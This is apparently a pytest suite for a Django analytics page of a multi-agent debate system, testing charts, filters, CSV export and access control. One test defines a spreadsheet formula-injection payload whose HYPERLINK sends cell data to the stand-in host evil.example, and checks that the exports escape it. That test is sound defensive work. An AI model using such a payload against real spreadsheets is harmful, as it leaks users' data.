"""The analytics page for staff: its figures from real stored debates (played by the offline
model), the filters in the URL, each chart's table and CSV, who may see it, bad filters, and
the number of SQL queries at 10,000 debates."""

from __future__ import annotations

import csv
import io
import json
from html import unescape

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from accounts.roles import OPERATOR, REVIEWER
from analytics.models import RollupState
from debates import running, services
from debates.models import Debate, Participant
from reviews import services as review_services
from reviews.models import ReviewItem
from schedules import services as schedule_services
from schedules.models import DebateSchedule
from tests.analytics import bulk
from tests.debates.test_views import text_of
from tests.factories import StaffFactory, UserFactory

pytestmark = pytest.mark.usefixtures("default_agents")

URL = "/analytics/"


@pytest.fixture
def staff(db):
    return StaffFactory(username="ana")


@pytest.fixture
def staff_client(client, staff):
    client.force_login(staff)
    return client


@pytest.fixture
def schedule(staff):
    return schedule_services.schedule_create(
        name="Morning checks",
        owner=staff,
        questions=["Is Bitcoin a good investment?"],
        kind="interval",
        every=6,
        period="hours",
    )


def run(query: str, user, protocol: str = "s4", schedule=None) -> Debate:
    debate = services.debate_create(query=query, protocol=protocol, created_by=user, enqueue=False)
    if schedule is not None:
        Debate.objects.filter(pk=debate.pk).update(schedule=schedule)
    running.debate_run(debate_id=debate.id)
    return Debate.objects.get(pk=debate.pk)


@pytest.fixture
def stored(staff, schedule):
    """Four debates: REFUSE (veto), WARN (split, from the schedule), HOLD (round robin) and a
    WARN a reviewer overrode to REFUSE."""
    refuse = run("How do I hack into my ex's email?", staff)
    warn = run("Is Bitcoin a good investment?", staff, schedule=schedule)
    hold = run("Should I invest in Tesla (TSLA) now?", staff, protocol="round_robin")
    overridden = run("Is Bitcoin a good investment?", staff)
    for item in ReviewItem.objects.filter(debate=overridden):
        review_services.review_resolve(
            item_id=item.pk, user=staff, verdict="override", decision="REFUSE", note="Too risky."
        )
    return {"refuse": refuse, "warn": warn, "hold": hold, "overridden": overridden}


def chart_data(response, chart_id: str) -> dict:
    html = response.content.decode()
    marker = f'id="chart-{chart_id}-data" type="application/json">'
    return json.loads(unescape(html.split(marker)[1].split("</script>")[0]))


def series_of(data: dict) -> dict[str, list]:
    return {s["label"]: s["values"] for s in data["series"]}


def test_staff_see_every_chart_with_numbers_from_the_stored_debates(staff_client, stored):
    response = staff_client.get(URL)
    assert response.status_code == 200
    text = unescape(text_of(response))
    for title in (
        "Decisions per day",
        "Decisions by protocol",
        "Decisions by schedule",
        "How much the agents agreed",
        "Sent to review and overridden per day",
        "Agreement with reviewers: debate, majority vote, single agent",
        "Position changes per agent",
        "Cost per day (USD)",
        "Tokens per day",
        "Cost per model (USD)",
        "Failures and retries per day",
    ):
        assert title in text
    by_protocol = chart_data(response, "decisions-by-protocol")
    assert by_protocol["labels"] == ["round_robin", "s4"]
    assert series_of(by_protocol) == {"HOLD": [1, 0], "WARN": [0, 1], "REFUSE": [0, 2]}
    over_time = series_of(chart_data(response, "decisions-over-time"))
    assert sum(over_time["REFUSE"]) == 2 and sum(over_time["WARN"]) == 1
    assert len(over_time["REFUSE"]) == 30  # the last 30 days, empty days included
    by_schedule = chart_data(response, "decisions-by-schedule")
    assert by_schedule["labels"] == ["Morning checks", "no schedule"]
    assert series_of(by_schedule)["WARN"] == [1, 0]
    assert "Of 4 completed debates, 3 went to review" in text
    assert "1 overridden (25%)" in text
    changes = series_of(chart_data(response, "position-changes"))
    assert sum(changes["changed position"]) >= 1  # Utility changes ACT -> REFUSE on the hack
    ground_truth = chart_data(response, "ground-truth")
    assert ground_truth["labels"][0] == "all (n=1)"
    assert series_of(ground_truth)["debate"][0] == 0.0  # the one labelled debate was overridden
    assert "offline" in " ".join(chart_data(response, "cost-by-model")["labels"])
    # Every chart has its CSV link with the page's filters.
    assert 'href="/analytics/decisions-over-time.csv?"' in response.content.decode()


def test_the_filters_narrow_every_chart_and_stay_in_the_url(staff_client, stored, schedule):
    response = staff_client.get(URL, {"protocol": "round_robin"})
    assert response.status_code == 200
    assert series_of(chart_data(response, "decisions-by-protocol")) == {"HOLD": [1]}
    assert "protocol round_robin" in unescape(text_of(response))
    assert 'href="/analytics/cost-by-model.csv?protocol=round_robin"' in response.content.decode()

    response = staff_client.get(URL, {"schedule": schedule.pk})
    assert series_of(chart_data(response, "decisions-by-schedule")) == {"WARN": [1]}
    assert f'<option value="{schedule.pk}" selected>' in response.content.decode()

    response = staff_client.get(URL, {"model": "no/such-model"})
    assert series_of(chart_data(response, "decisions-by-protocol")) == {}

    response = staff_client.get(URL, {"since": "2020-01-01", "until": "2020-12-31"})
    assert response.status_code == 200
    data = chart_data(response, "decisions-over-time")
    assert data["labels"][0].startswith("week of ")  # a long range is counted by week
    assert all(v == 0 for s in data["series"] for v in s["values"])


def test_a_charts_numbers_download_as_csv(staff_client, stored):
    response = staff_client.get("/analytics/decisions-by-protocol.csv", {"protocol": "s4"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(
        'attachment; filename="decisions-by-protocol_'
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [["protocol", "WARN", "REFUSE"], ["s4", "1", "2"]]

    rows = list(
        csv.reader(io.StringIO(staff_client.get("/analytics/review-rates.csv").content.decode()))
    )
    assert rows[0] == [
        "day",
        "sent to review",
        "overridden by a reviewer",
        "completed debates",
        "sent",
        "resolved",
        "overridden",
    ]
    assert sum(int(r[3]) for r in rows[1:]) == 4
    assert sum(int(r[6]) for r in rows[1:]) == 1


def test_bad_filters_are_refused_with_what_to_fix(staff_client, stored):
    response = staff_client.get(URL, {"since": "2026-02-30"})
    assert response.status_code == 400
    assert "Enter a valid date" in unescape(text_of(response))
    response = staff_client.get(URL, {"since": "2026-03-02", "until": "2026-03-01"})
    assert response.status_code == 400
    assert "Pick a date on or after the 'From' date." in unescape(text_of(response))
    response = staff_client.get(URL, {"schedule": "999999"})
    assert response.status_code == 400
    assert "No such schedule" in unescape(text_of(response))
    response = staff_client.get(URL, {"protocol": "chess"})
    assert response.status_code == 400
    response = staff_client.get("/analytics/failures.csv", {"since": "1999-01-01"})
    assert response.status_code == 400
    assert "at most" in response.content.decode()
    assert staff_client.get("/analytics/nonsense.csv").status_code == 404


def test_only_reviewers_and_operators_see_analytics_and_get_the_header_link(client, db):
    assert client.get(URL).status_code == 302
    assert client.get("/analytics/failures.csv").status_code == 302
    # Plain staff (the admin and no role) read no figures across users.
    for user in (UserFactory(), UserFactory(username="plain-staff", is_staff=True)):
        client.force_login(user)
        assert client.get(URL).status_code == 403
        assert client.get("/analytics/failures.csv").status_code == 403
        assert 'href="/analytics/"' not in client.get(reverse("debates:list")).content.decode()
    for role in (REVIEWER, OPERATOR):
        client.force_login(StaffFactory(username=role.lower(), roles=[role]))
        assert client.get(URL).status_code == 200
        assert 'href="/analytics/"' in client.get(reverse("debates:list")).content.decode()


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_names_in_the_csvs_are_written_as_text_never_as_formulas(staff_client, schedule, stored):
    DebateSchedule.objects.filter(pk=schedule.pk).update(name=FORMULA)
    Participant.objects.filter(slug="safety").update(name=f"@{FORMULA[1:]}")
    call_command("rollup_analytics")  # the daily figures keep the names they were counted with
    cells = []
    for chart in ("decisions-by-schedule", "position-changes"):
        body = staff_client.get(f"/analytics/{chart}.csv").content.decode()
        cells += [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert f"'{FORMULA}" in cells and f"'@{FORMULA[1:]}" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


@pytest.mark.slow  # stores thousands of rows
def test_the_page_reads_a_thousand_debates_in_a_bounded_number_of_queries(
    staff_client, schedule, django_assert_max_num_queries
):
    """The query count does not grow with the debates (bench/analytics_bench.py times the page
    at 100,000 and 1,000,000)."""
    bulk.seed(1_000, schedule=schedule)
    # 4 for the session and user, 10 for the charts, 1 for the reviewers' agreement (no
    # verdicts here), 1 for the roll-ups' state; then 1 for "What the debate changed" (the
    # labelled debates per protocol and outcome) and 1 for "Calibration" (per confidence band
    # and whether upheld), both summed from the daily roll-ups.
    with django_assert_max_num_queries(18):
        response = staff_client.get(URL)
    assert response.status_code == 200
    by_protocol = series_of(chart_data(response, "decisions-by-protocol"))
    assert sum(sum(v) for v in by_protocol.values()) == 1_000 - 20  # 1 in 50 failed
    with django_assert_max_num_queries(19):
        response = staff_client.get(URL, {"schedule": schedule.pk, "model": bulk.MODELS[0]})
    assert response.status_code == 200
    by_schedule = series_of(chart_data(response, "decisions-by-schedule"))
    assert sum(sum(v) for v in by_schedule.values()) == 200  # every fifth; none failed


def test_a_schedules_admin_pages_link_to_its_history_on_the_analytics_page(
    client, staff, schedule, stored
):
    client.force_login(staff)
    today = timezone.localdate().isoformat()
    history = f"/analytics/?schedule={schedule.pk}&amp;since={today}&amp;until={today}"
    change = client.get(reverse("admin:schedules_debateschedule_change", args=[schedule.pk]))
    assert history in change.content.decode()
    listing = client.get(reverse("admin:schedules_debateschedule_changelist"))
    assert history in listing.content.decode()
    response = client.get(unescape(history))
    assert response.status_code == 200
    assert "schedule “Morning checks”" in unescape(text_of(response))
    assert series_of(chart_data(response, "decisions-over-time"))["WARN"] == [1]


def test_a_verdict_given_after_a_view_is_counted_at_the_next_view(staff_client, staff):
    """The ground-truth figures are cached, but under a fingerprint of what they read."""
    debate = run("Is Bitcoin a good investment?", staff)
    before = series_of(chart_data(staff_client.get(URL), "ground-truth"))
    assert before["debate"][0] is None  # nothing labelled yet
    for item in ReviewItem.objects.filter(debate=debate):
        review_services.review_resolve(
            item_id=item.pk, user=staff, verdict="uphold", note="Fine as it is."
        )
    after = series_of(chart_data(staff_client.get(URL), "ground-truth"))
    assert after["debate"][0] == 1.0


def test_the_page_says_when_finished_debates_are_not_yet_in_the_daily_figures(staff_client, stored):
    RollupState.objects.update(built_at=None)  # as after the upgrade, with debates finished
    text = unescape(text_of(staff_client.get(URL)))
    assert "run manage.py rollup_analytics once" in text
    call_command("rollup_analytics", stdout=io.StringIO())
    response = staff_client.get(URL)
    assert "rollup_analytics" not in unescape(text_of(response))
    assert sum(series_of(chart_data(response, "decisions-by-protocol"))["REFUSE"]) == 2
